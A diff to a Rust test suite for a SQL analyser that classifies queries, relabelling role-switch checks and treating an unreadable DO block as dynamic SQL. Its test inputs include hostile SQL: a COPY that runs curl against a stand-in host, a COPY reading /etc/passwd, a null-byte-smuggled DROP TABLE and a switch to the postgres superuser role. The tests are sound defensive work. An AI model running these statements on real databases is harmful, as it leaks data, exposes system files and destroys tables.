@@ -43,8 +43,8 @@ fn writes_hidden_in_reads_are_found() {
     has("TABLE customers", &["read customers"]);
     has("COPY orders TO PROGRAM 'curl evil'", &["copy-program curl evil"]);
     has("COPY orders FROM '/etc/passwd'", &["copy-file /etc/passwd", "copy-from orders"]);
-    has("SET ROLE postgres", &["set role"]);
-    has("SET SESSION AUTHORIZATION postgres", &["set session_authorization"]);
+    has("SET ROLE postgres", &["assume-role postgres"]);
+    has("SET SESSION AUTHORIZATION postgres", &["assume-role postgres"]);
     has("SELECT set_config('standard_conforming_strings', 'off', false)", &["set standard_conforming_strings"]);
     has("SELECT set_config(current_user, 'x', false)", &["set (computed)"]);
     has("BEGIN READ WRITE", &["set transaction_read_only"]);
@@ -144,7 +144,8 @@ fn no_where_is_noticed() {
 fn unparseable_is_reported_with_the_parsers_words() {
     assert_eq!(ops("SELEC 1"), ["unparseable: syntax error at or near \"SELEC\""]);
     assert!(ops("SELECT 1\0; DROP TABLE t")[0].starts_with("unparseable"));
-    assert!(ops("DO $$BEGIN DELETE FRM t; END$$")[0].starts_with("unparseable"));
+    // A body sluice cannot read is not unparseable but dynamic SQL: the server may accept it.
+    assert!(ops("DO $$BEGIN DELETE FRM t; END$$").iter().any(|o| o.starts_with("dynamic-sql")));
     assert!(ops("SELECT 'unterminated")[0].starts_with("unparseable"));
 }
 
